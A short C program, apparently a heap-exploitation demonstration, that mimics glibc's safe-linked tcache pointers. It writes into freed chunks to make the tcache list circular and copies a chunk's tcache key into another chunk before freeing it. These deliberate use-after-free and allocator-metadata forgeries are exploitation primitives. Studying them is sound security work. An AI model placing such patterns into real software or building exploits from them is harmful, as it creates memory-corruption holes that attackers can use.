/* The tcache list is a circle and a block carries the key. */
#include <stdint.h>
#include <stdlib.h>

/* A link as the tcache and the fastbins store it. */
#define LINK(place, to) (((uintptr_t)(place) >> 12) ^ (uintptr_t)(to))
int main(void) {
    size_t *a = malloc(40), *b = malloc(40), *c = malloc(40);
    free(a);
    free(b);
    b[0] = LINK(b, b);
    c[1] = b[1];
    free(c);
    return 0;
}
